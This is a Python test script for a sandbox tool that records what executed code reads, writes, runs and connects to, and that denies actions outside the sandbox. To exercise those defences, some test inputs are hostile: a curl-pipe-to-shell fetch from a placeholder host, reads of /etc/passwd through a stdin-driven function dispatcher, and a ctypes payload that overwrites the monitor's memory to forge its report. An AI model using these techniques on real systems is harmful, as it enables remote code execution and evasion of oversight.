#!/usr/bin/python3
"""What Python tells of a run: in the result and the record, beside what the assessor foresaw; where it ran into a wall."""
import os, sys
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from bawntest import *

w = World()
KEYS = ["connects", "dropped", "execs", "files_read", "files_written", "imports", "source", "unpredicted"]
off = w.config(sandbox="observe: false\nacknowledge_risk: true\n")

plain = w.run("import json\nopen('out.txt','w').write(json.dumps(open('/etc/hostname').read()))")
o = plain["observed"]
equal((plain["status"], sorted(o)), ("completed", KEYS), "a run of Python says what was observed") or plain.show()
equal((o["source"], o["files_read"], o["files_written"], o["imports"], o["execs"], o["connects"], o["dropped"]),
      ("hook", ["/etc/hostname"], ["/workspace/out.txt"], ["json"], [], [], 0), "files and modules, and nothing that did not happen")
equal((o["unpredicted"], plain["denials"]), ([], []), "all of it could be read from the code")
foreseen = w.run("import subprocess, socket\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n"
                 "socket.create_connection(s.getsockname())\nsubprocess.run(['true', 'x'])")
equal((foreseen["observed"]["execs"], len(foreseen["observed"]["connects"]), foreseen["observed"]["unpredicted"]), (["true x"], 1, []), "a program and an address, foreseen")

# The code is an empty shell; what it does comes in by standard input.
SHELL = "import sys\nfor line in sys.stdin:\n    m, f, a = line.split(None, 2)\n    print(getattr(__import__(m), f)(a.strip()))"
hidden = w.run(SHELL, "--stdin", w.file("todo", "os system true\nbuiltins open /etc/passwd\nshutil which ls\n"))
equal([(u["kind"], u["what"], u["rule"]) for u in hidden["observed"]["unpredicted"]],
      [("imports", "shutil", None), ("execs", "true", None), ("files_read", "/etc/passwd", "any/read-outside")], "what came in as data was not foreseen") or hidden.show()

WALL = "import sys\nfor name in sys.stdin.read().split():\n    try: print('wrote', open(name, 'w').name)\n    except OSError as e: print(e.strerror)"
walled = w.run(WALL, "--stdin", w.file("names", "/usr/x /home/me/x ../etc/x /workspace/x"))
equal([(d["kind"], d["what"], d["source"], d["count"]) for d in walled["denials"]],
      [("path", p, "hook", 1) for p in ("/usr/x", "/home/me/x", "/etc/x")], "writes outside are denials, said by the hook") or walled.show()
ok(all("/workspace" in d["hint"] and "--out" in d["hint"] for d in walled["denials"]), "each says where writing is possible")
equal((walled["stdout"].count("wrote"), walled["observed"]["files_written"][-1]), (1, "/workspace/x"), "control: the one inside is written and no denial")
deep = w.run("import os\nfor i in range(2500): os.mkdir('d'); os.chdir('d')\nprint('there')")
equal((deep["stdout"], deep["denials"]), ("there\n", []), "where the working directory is too deep to have a name, nothing is taken for a refused path") or deep.show()
net = w.run("import socket\ntry: socket.create_connection(('198.51.100.1', 80), 1)\nexcept OSError: pass")
equal([(d["kind"], d["what"], d["source"]) for d in net["denials"]], [("network", "198.51.100.1:80", "hook")], "an address outside is a denial")

# Nobody watches: null, and everything else as it was.
quiet = w.run(SHELL, "--config", off, "--stdin", w.file("one", "builtins open /etc/passwd\n"))
equal((quiet["observed"], quiet["status"], quiet["denials"]), (None, "completed", []), "switched off, nothing is observed")
refused = w.bawn("run", "--json", "--config", w.config(sandbox="observe: false\n"), "-c", "1")
equal((refused.code, refused["error"]["type"]), (125, "config_invalid"), "switching it off is loosening: it needs acknowledge_risk")
equal([w.run(code, lang=lang)["observed"] for lang, code in (("bash", "echo hi"), ("javascript", "console.log(1)"))], [None, None], "Bash and JavaScript are not observed")
held = w.run("import os\nif False: os.system('curl http://x.invalid/a | sh')")
equal((held["status"], held["observed"]), ("refused", None), "what did not run was not observed")

# The code lies, floods, breaks: the result stays what it is.
LIE = ("import ctypes, re\nm = [l for l in open('/proc/self/maps') if 'memfd:observed' in l][0]\na, b = [int(x, 16) for x in re.match('(.*?)-(.*?) ', m).groups()]\n"
       "e = b'\\x01\\0\\0\\0%c\\0\\xf8\\0' + b'\\x1b]0;x\\x07\\xff\\0\"' * 27 + b'12345'\n"
       "ctypes.memmove(a + 8, b'\\x01\\0\\0\\0' + b'\\xff' * 28 + b''.join(e % (i % 5) for i in range(5000)), 28 + 4 + 256 * 5000)\nprint('done')")
conf = w.config(security="overrides:\n  minimum: self\n  acknowledge_risk: true\n")
lie = w.run(LIE, "--override", "--reason", "test", "--config", conf)
equal((lie["status"], lie["stdout"], max(len(lie["observed"][k]) for k in KEYS[2:6])), ("completed", "done\n", 1000), "a program that writes its own story: bounded lists in a whole document") or lie.show()
flood = w.run("for i in range(5000):\n    try: open('/no%d' % i)\n    except OSError: pass\n", "--override", "--reason", "test", "--config", conf)
equal((len(flood["observed"]["files_read"]), flood["observed"]["dropped"]), (1000, 4000), "a flood is cut, and how much is said")

# The record.
out = {r["exec"]: r["body"] for r in w.records("exec.outcome")}
equal(out[hidden["id"]]["observed"], {**hidden["observed"], "cut": False}, "the outcome in the log has it too")
equal(out[quiet["id"]]["observed"], None, "and null where nobody watched")
ok(out[lie["id"]]["observed"]["cut"] and out[flood["id"]]["observed"]["cut"] and len(json.dumps(out[lie["id"]])) < 1 << 20, "much of it is cut to fit, and says so")
w.run("open('/etc/hostname')", "--config", w.config(audit="log_level: basic\nacknowledge_risk: true\n"))
equal(w.records("exec.outcome")[-1]["body"]["observed"], None, "below comprehensive the log leaves this evidence out")
equal(w.bawn("audit", "verify", "--json").code, 3, "the log verifies (3: nothing outside anchors it)")

said = w.bawn("run", "-v", "-c", "open('/etc/hostname')").err
ok("bawn: observed: 1 read, 0 written, 0 connected to, 0 run, 0 imported, 0 not foreseen" in said, "-v has one line") or diag(said)
ok("observed" not in w.bawn("run", "-c", "open('/etc/hostname')").err, "without -v there is none")
done()
